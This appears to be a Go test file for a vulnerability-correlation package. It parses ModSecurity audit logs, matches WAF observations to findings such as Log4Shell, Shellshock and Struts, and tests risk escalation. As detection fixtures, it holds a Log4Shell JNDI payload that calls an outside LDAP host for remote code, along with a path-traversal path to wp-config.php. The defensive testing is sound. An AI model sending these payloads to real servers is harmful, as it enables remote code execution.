package edge_test

import (
	"encoding/json"
	"errors"
	"io"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sentinel-sca/sentinel/internal/edge"
)

func readTestLog(t testing.TB) []edge.Observation {
	t.Helper()
	f, err := os.Open("testdata/modsec/audit.log")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	r := edge.NewModSecReader(f)
	var out []edge.Observation
	for {
		o, err := r.Next()
		if err == io.EOF {
			return out
		}
		if err != nil {
			t.Fatal(err)
		}
		out = append(out, o)
	}
}

func find(t testing.TB, obs []edge.Observation, pathPrefix string) edge.Observation {
	t.Helper()
	for _, o := range obs {
		if strings.HasPrefix(o.Path, pathPrefix) {
			return o
		}
	}
	t.Fatalf("no observation for %s", pathPrefix)
	return edge.Observation{}
}

func TestParseModSecEntry_Log4Shell(t *testing.T) {
	o := find(t, readTestLog(t), "/api/v1/products")
	// Everything but the time and transaction id, which change with every
	// run of TestModSecLive -update-modsec.
	o.Time, o.TransactionID = time.Time{}, ""
	for i := range o.Rules {
		o.Rules[i].Data = ""
	}
	want := edge.Observation{
		Host: "shop.example.com", Path: "/api/v1/products",
		Query:     "search=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.7%3A1389%2FExploit%7D",
		Method:    "GET",
		Source:    "127.0.0.1",
		UserAgent: "${jndi:ldap://198.51.100.7:1389/Exploit}",
		Status:    403,
		RuleID:    "932130",
		Message:   "Remote Command Execution: Unix Shell Expression Found",
		Rules: []edge.RuleMatch{
			{ID: "932130", Message: "Remote Command Execution: Unix Shell Expression Found", Severity: "critical",
				Tags: []string{"application-multi", "language-shell", "platform-unix", "attack-rce", "paranoia-level/1", "OWASP_CRS", "capec/1000/152/248/88", "PCI/6.5.2"}},
			{ID: "949110", Message: "Inbound Anomaly Score Exceeded (Total Score: 5)", Severity: "critical",
				Tags: []string{"application-multi", "language-multi", "platform-multi", "attack-generic"}},
			{ID: "980130", Message: "Inbound Anomaly Score Exceeded (Total Inbound Score: 5 - SQLI=0,XSS=0,RFI=0,LFI=0,RCE=5,PHPI=0,HTTP=0,SESS=0): individual paranoia level scores: 5, 0, 0, 0",
				Tags: []string{"event-correlation"}},
		},
		CWEs:         []string{"CWE-78"},
		Tags:         []string{"application-multi", "language-shell", "platform-unix", "attack-rce", "paranoia-level/1", "OWASP_CRS", "capec/1000/152/248/88", "PCI/6.5.2", "language-multi", "platform-multi", "attack-generic", "event-correlation"},
		Action:       edge.ActionBlocked,
		Severity:     edge.SeverityCritical,
		Attacks:      []string{"rce"},
		Technologies: []string{"shell", "unix"},
		Signatures:   []string{"log4shell"},
		Packages:     []string{"pkg:maven/org.apache.logging.log4j/log4j-core"},
		Producer:     "ModSecurity for Apache/2.9.7 (http://www.modsecurity.org/); OWASP_CRS/3.3.4",
	}
	if diff := cmp.Diff(want, o); diff != "" {
		t.Errorf("Log4Shell observation mismatch (-want +got):\n%s", diff)
	}
}

func TestParseModSecEntry_Errors(t *testing.T) {
	tests := []struct{ name, in, want string }{
		{"not_json", "GET / HTTP/1.1", "malformed JSON"},
		{"no_parts", `{"transaction":{}}`, "parts A and B"},
		{"bad_time", `{"transaction":{"time":"yesterday","remote_address":"1.2.3.4"},"request":{"request_line":"GET / HTTP/1.1"}}`, "transaction time"},
		{"bad_source", `{"transaction":{"time":"23/Nov/2026:17:47:31.345987 +0000","remote_address":"somewhere"},"request":{"request_line":"GET / HTTP/1.1"}}`, "remote address"},
		{"bad_line", `{"transaction":{"time":"23/Nov/2026:17:47:31.345987 +0000","remote_address":"1.2.3.4"},"request":{"request_line":"GET"}}`, "request line"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := edge.ParseModSecEntry([]byte(tt.in))
			if err == nil || !strings.Contains(err.Error(), tt.want) {
				t.Errorf("ParseModSecEntry() = %v, want an error containing %q", err, tt.want)
			}
		})
	}
	// A reader reports a bad line and goes on.
	log := "not json\n" + `{"transaction":{"time":"23/Nov/2026:17:47:31.345987 +0000","remote_address":"2001:db8::7"},"request":{"request_line":"GET http://Shop.Example.com:8080/x?y HTTP/1.1"},"audit_data":{"messages":["Warning. [id \"941100\"] [msg \"XSS\"] [severity \"CRITICAL\"] [tag \"attack-xss\"]"]}}` + "\n"
	r := edge.NewModSecReader(strings.NewReader(log))
	_, err := r.Next()
	var le *edge.LineError
	if !errors.As(err, &le) || le.Line != 1 {
		t.Fatalf("first Next() = %v, want a LineError for line 1", err)
	}
	o, err := r.Next()
	if err != nil || o.Host != "shop.example.com" || o.Path != "/x" || o.Query != "y" || o.Source != "2001:db8::7" || o.Action != edge.ActionDetected || o.RuleID != "941100" {
		t.Errorf("second Next() = %+v, %v", o, err)
	}
	if _, err := r.Next(); err != io.EOF {
		t.Errorf("third Next() = %v, want io.EOF", err)
	}
}

func TestDecodeBatch(t *testing.T) {
	in := `{"observations":[
	  {"time":"2026-11-21T22:19:05Z","host":"Shop.Example.com:443","source":"203.0.113.7","action":"allowed",
	   "path":"/api/login","method":"post","rule_id":"944150","message":"Potential Remote Command Execution: Log4j / Log4shell",
	   "matched_data":"${jndi:ldap://198.51.100.7/a}","cves":["cve-2021-44228"],"cwes":["CWE-917"],
	   "tags":["attack-rce","language-java","paranoia-level/1"],"severity":"critical","status":200,"producer":"edge/1","id":"r-1"},
	  {"time":"2026-11-21T22:19:06+01:00","host":"shop.example.com","source":"::ffff:198.51.100.9","action":"blocked"}
	]}`
	obs, err := edge.DecodeBatch([]byte(in))
	if err != nil {
		t.Fatal(err)
	}
	if len(obs) != 2 {
		t.Fatalf("got %d observations", len(obs))
	}
	o := obs[0]
	if o.Host != "shop.example.com" || o.Method != "POST" || o.RuleID != "944150" || o.Action != edge.ActionAllowed {
		t.Errorf("first = %+v", o)
	}
	if diff := cmp.Diff([]string{"CVE-2021-44228"}, o.CVEs); diff != "" {
		t.Errorf("CVEs (-want +got):\n%s", diff)
	}
	if diff := cmp.Diff([]string{"CWE-78", "CWE-917"}, o.CWEs); diff != "" {
		t.Errorf("CWEs (-want +got):\n%s", diff)
	}
	if !slices.Contains(o.Signatures, "log4shell") || !slices.Contains(o.Technologies, "java") {
		t.Errorf("signatures %v technologies %v", o.Signatures, o.Technologies)
	}
	if p := obs[1]; p.Path != "/" || p.Source != "198.51.100.9" || !p.Time.Equal(time.Date(2026, 11, 21, 21, 19, 6, 0, time.UTC)) || p.Time.Location() != time.UTC {
		t.Errorf("second = %+v", p)
	}
}

func TestDecodeBatch_Errors(t *testing.T) {
	item := func(extra string) string {
		return `{"time":"2026-11-21T22:19:05Z","host":"h.example","source":"203.0.113.7","action":"blocked"` + extra + `}`
	}
	tests := []struct {
		name, item, field, msg string
	}{
		{"missing_time", `{"host":"h","source":"1.2.3.4","action":"blocked"}`, "observations[1].time", "required"},
		{"missing_action", `{"time":"2026-11-21T22:19:05Z","host":"h","source":"1.2.3.4"}`, "observations[1].action", "required"},
		{"bad_time", strings.Replace(item(""), "2026-11-21T22:19:05Z", "21/11/2026", 1), "observations[1].time", "RFC 3339"},
		// Year -1 in UTC: JSON cannot even write it back.
		{"year_before_1970", strings.Replace(item(""), "2026-11-21T22:19:05Z", "0000-01-01T00:00:00+01:00", 1), "observations[1].time", "1970 to 9999"},
		{"bad_source", strings.Replace(item(""), "203.0.113.7", "evil.example", 1), "observations[1].source", "IP address"},
		{"bad_action", strings.Replace(item(""), `"blocked"`, `"dropped"`, 1), "observations[1].action", "blocked, detected or allowed"},
		{"bad_host", strings.Replace(item(""), "h.example", "h/x", 1), "observations[1].host", "host"},
		{"unknown_field", item(`,"referer":"x"`), "observations[1].referer", "unknown field"},
		{"wrong_type", item(`,"status":"403"`), "observations[1].status", "wrong type"},
		{"bad_path", item(`,"path":"api?x=1"`), "observations[1].path", "start with /"},
		{"bad_cve", item(`,"cves":["log4shell"]`), "observations[1].cves[0]", "CVE id"},
		{"bad_cwe", item(`,"cwes":["79"]`), "observations[1].cwes[0]", "CWE id"},
		{"bad_severity", item(`,"severity":"urgent"`), "observations[1].severity", "critical, high"},
		{"bad_status", item(`,"status":42`), "observations[1].status", "HTTP status"},
		{"not_object", `"x"`, "observations[1]", "not an object"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			obs, err := edge.DecodeBatch([]byte(`{"observations":[` + item("") + `,` + tt.item + `]}`))
			var be *edge.BatchError
			if !errors.As(err, &be) || !errors.Is(err, edge.ErrInvalidBatch) {
				t.Fatalf("DecodeBatch() = %v, want a *BatchError", err)
			}
			if len(obs) != 1 {
				t.Errorf("%d valid observations returned, want 1", len(obs))
			}
			if len(be.Items) != 1 || be.Items[0].Index != 1 || be.Items[0].Field != tt.field || !strings.Contains(be.Items[0].Message, tt.msg) {
				t.Errorf("items = %+v, want field %s and a message containing %q", be.Items, tt.field, tt.msg)
			}
		})
	}
	for _, in := range []string{``, `[]`, `{}`, `{"observations":[]} {}`, `{"observations":[],"extra":1}`} {
		if _, err := edge.DecodeBatch([]byte(in)); !errors.Is(err, edge.ErrInvalidBatch) || errors.As(err, new(*edge.BatchError)) {
			t.Errorf("DecodeBatch(%q) = %v, want a batch-level error", in, err)
		}
	}
	big := `{"observations":[` + strings.Repeat(item("")+",", edge.MaxBatch) + item("") + `]}`
	if _, err := edge.DecodeBatch([]byte(big)); err == nil || !strings.Contains(err.Error(), "at most") {
		t.Errorf("a batch over MaxBatch: %v", err)
	}
}

func TestCorrelate(t *testing.T) {
	logObs := readTestLog(t)
	log4shell := find(t, logObs, "/api/v1/products")
	wp := find(t, logObs, "/wp-content/plugins/")
	sqli := find(t, logObs, "/products.php")
	shellshock := find(t, logObs, "/cgi-bin/")
	struts := find(t, logObs, "/struts2-showcase/")
	named, err := edge.DecodeBatch([]byte(`{"observations":[{"time":"2026-11-21T22:19:05Z","host":"shop.example.com","source":"203.0.113.7","action":"detected","cves":["CVE-2023-22515"]}]}`))
	if err != nil {
		t.Fatal(err)
	}

	findings := []edge.FindingRef{
		{ID: "fnd_log4j", AdvisoryID: "GHSA-jfh8-c2jp-5v3q", Aliases: []string{"CVE-2021-44228"}, Purl: "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1"},
		{ID: "fnd_log4j_dos", AdvisoryID: "GHSA-p6xc-xr62-6r2g", Aliases: []string{"CVE-2021-45105"}, Purl: "pkg:maven/org.apache.logging.log4j/log4j-core@2.16.0"},
		{ID: "fnd_log4j_api", AdvisoryID: "GHSA-xxxx-log4j-api", Purl: "pkg:maven/org.apache.logging.log4j/log4j-api@2.14.1"},
		{ID: "fnd_wpfm", AdvisoryID: "CVE-2020-25213", Purl: "pkg:composer/wpackagist-plugin/wp-file-manager@6.0"},
		{ID: "fnd_wpfm_scan", AdvisoryID: "WPVDB-1", Purl: "pkg:generic/wp-file-manager@6.0",
			Locations: []string{"https://shop.example.com/wp-content/plugins/wp-file-manager/readme.txt"}},
		{ID: "fnd_other_plugin", AdvisoryID: "CVE-2021-0000", Purl: "pkg:composer/wpackagist-plugin/contact-form-7@5.0"},
		{ID: "fnd_php_sqli", AdvisoryID: "GHSA-php-sqli", CWE: "CWE-89", Purl: "pkg:composer/doctrine/dbal@2.0.0"},
		{ID: "fnd_bash", AdvisoryID: "DSA-3032-1", Aliases: []string{"CVE-2014-6271"}, Purl: "pkg:deb/debian/bash@4.2+dfsg-0.1?distro=debian-7"},
		{ID: "fnd_struts", AdvisoryID: "GHSA-j77q-2qqg-6989", Aliases: []string{"CVE-2017-5638"}, Purl: "pkg:maven/org.apache.struts/struts2-core@2.3.31"},
		{ID: "fnd_confluence", AdvisoryID: "CVE-2023-22515", Purl: "pkg:generic/atlassian/confluence@8.0.0"},
	}
	c := edge.NewCorrelator(findings)
	type reason struct{ Finding, Kind, Value string }
	collect := func(o edge.Observation) []reason {
		var out []reason
		for _, m := range c.Match(&o) {
			for _, r := range m.Reasons {
				out = append(out, reason{m.FindingID, string(r.Kind), r.Value})
			}
		}
		return out
	}
	tests := []struct {
		name string
		o    edge.Observation
		want []reason
	}{
		{"log4shell", log4shell, []reason{
			{"fnd_log4j", "cve", "CVE-2021-44228"},
			{"fnd_log4j", "technology", "pkg:maven/org.apache.logging.log4j/log4j-core"},
			{"fnd_log4j_dos", "technology", "pkg:maven/org.apache.logging.log4j/log4j-core"},
		}},
		{"wordpress_plugin_probe", wp, []reason{
			{"fnd_wpfm", "path", "/wp-content/plugins/wp-file-manager/"},
			{"fnd_wpfm_scan", "path", "/wp-content/plugins/wp-file-manager/"},
		}},
		{"sqli_is_not_evidence_about_a_package", sqli, nil},
		{"shellshock", shellshock, []reason{
			{"fnd_bash", "cve", "CVE-2014-6271"},
			{"fnd_bash", "technology", "pkg:deb/*/bash"},
		}},
		{"struts", struts, []reason{
			{"fnd_struts", "cve", "CVE-2017-5638"},
			{"fnd_struts", "technology", "pkg:maven/org.apache.struts/struts2-core"},
		}},
		{"named_cve", named[0], []reason{{"fnd_confluence", "cve", "CVE-2023-22515"}}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if diff := cmp.Diff(tt.want, collect(tt.o)); diff != "" {
				t.Errorf("Match mismatch (-want +got):\n%s", diff)
			}
		})
	}
}

func TestCorrelate_Paths(t *testing.T) {
	findings := []edge.FindingRef{
		{ID: "plugin", Purl: "pkg:composer/wpackagist-plugin/revslider@4.1"},
		{ID: "agent_file", Purl: "pkg:generic/x", Locations: []string{"/var/www/html/wp-content/plugins/Duplicator/installer.php"}},
		{ID: "drupal", Purl: "pkg:composer/drupal/webform@8.x-5.0"},
		{ID: "js_file", Purl: "pkg:npm/jquery@1.8.0", Locations: []string{"https://shop.example.com/static/js/jquery.min.js", "package-lock.json"}},
	}
	tests := []struct {
		path string
		want []string
	}{
		{"/wp-content/plugins/revslider/temp/update_extract/x.php", []string{"plugin"}},
		{"/wp-content/plugins/revslider", []string{"plugin"}},
		{"/WP-CONTENT/plugins/%72evslider/", []string{"plugin"}},
		{"/wp-content/plugins/revslider/../../../wp-config.php", []string{"plugin"}},
		{"/wp-content/plugins/revslider-pro/x", nil},
		{"/wp-content/plugins/duplicator/installer.php", []string{"agent_file"}},
		{"/modules/contrib/webform/src/x.php", []string{"drupal"}},
		{"/static/js/jquery.min.js", []string{"js_file"}},
		{"/static/js/app.js", nil},
		{"/", nil},
	}
	c := edge.NewCorrelator(findings)
	for _, tt := range tests {
		o := edge.Observation{Path: tt.path, Action: edge.ActionBlocked}
		var got []string
		for _, m := range c.Match(&o) {
			got = append(got, m.FindingID)
		}
		if diff := cmp.Diff(tt.want, got); diff != "" {
			t.Errorf("Match(path %q) mismatch (-want +got):\n%s", tt.path, diff)
		}
	}
}

func TestPolicyApply(t *testing.T) {
	p := edge.DefaultPolicy
	t0 := time.Date(2026, 11, 21, 10, 0, 0, 0, time.UTC)
	type step struct {
		at     time.Duration
		action edge.Action
		risk   int

		emit      bool
		count     int
		newRisk   int
		escalated bool
	}
	steps := []step{
		{0, edge.ActionBlocked, 65, true, 1, 75, true},               // medium -> high
		{time.Hour, edge.ActionBlocked, 75, false, 2, 75, false},     // counted
		{2 * time.Hour, edge.ActionDetected, 75, true, 3, 85, false}, // got through: alerted, +10 more
		{3 * time.Hour, edge.ActionAllowed, 85, false, 4, 85, false}, // counted
		{-time.Hour, edge.ActionAllowed, 85, false, 5, 85, false},    // older than the window: counted only
		{24 * time.Hour, edge.ActionAllowed, 85, true, 1, 100, true}, // new window, capped at 100
		{25 * time.Hour, edge.ActionBlocked, 100, false, 2, 100, false},
		{49 * time.Hour, edge.ActionBlocked, 100, true, 1, 100, false}, // at the cap already
	}
	var st *edge.State
	for i, s := range steps {
		d := p.Apply(st, t0.Add(s.at), s.action, s.risk)
		if d.Emit != s.emit || d.Count != s.count || d.RiskScore != s.newRisk || d.Escalated != s.escalated || d.PreviousRiskScore != s.risk {
			t.Errorf("step %d: emit %v count %d risk %d->%d escalated %v; want emit %v count %d risk %d escalated %v",
				i, d.Emit, d.Count, d.PreviousRiskScore, d.RiskScore, d.Escalated, s.emit, s.count, s.newRisk, s.escalated)
		}
		if d.State.Total != i+1 {
			t.Errorf("step %d: total %d", i, d.State.Total)
		}
		st = &d.State
	}
	// A state round-trips through JSON, as the caller stores it.
	b, _ := json.Marshal(st)
	var back edge.State
	if err := json.Unmarshal(b, &back); err != nil || back != *st {
		t.Errorf("State JSON round trip: %v, %+v != %+v", err, back, *st)
	}
	// A score above the cap is never lowered.
	if d := p.Apply(nil, t0, edge.ActionAllowed, 100); d.RiskScore != 100 {
		t.Errorf("risk 100 -> %d", d.RiskScore)
	}
}

func TestNewMatchEvent(t *testing.T) {
	o := find(t, readTestLog(t), "/api/v1/products")
	ms := edge.Correlate(&o, []edge.FindingRef{{ID: "fnd_1", AssetID: "ast_1", AdvisoryID: "CVE-2021-44228", Purl: "pkg:maven/org.apache.logging.log4j/log4j-core@2.14.1", RiskScore: 80}})
	if len(ms) != 1 {
		t.Fatalf("matches: %v", ms)
	}
	d := edge.DefaultPolicy.Apply(nil, o.Time, o.Action, 80)
	ev := edge.NewMatchEvent(&o, ms[0], d, edge.DefaultPolicy)
	b, err := json.Marshal(ev)
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	for _, want := range []string{`"finding_id":"fnd_1"`, `"asset_id":"ast_1"`, `"risk_score":90`, `"previous_risk_score":80`, `"window_hours":24`, `"count":1`, `"signatures":["log4shell"]`, `"action":"blocked"`} {
		if !strings.Contains(s, want) {
			t.Errorf("event data lacks %s: %s", want, s)
		}
	}
	for _, leak := range []string{"jndi", "search=", "user_agent"} {
		if strings.Contains(s, leak) {
			t.Errorf("event data carries request content (%s): %s", leak, s)
		}
	}
}
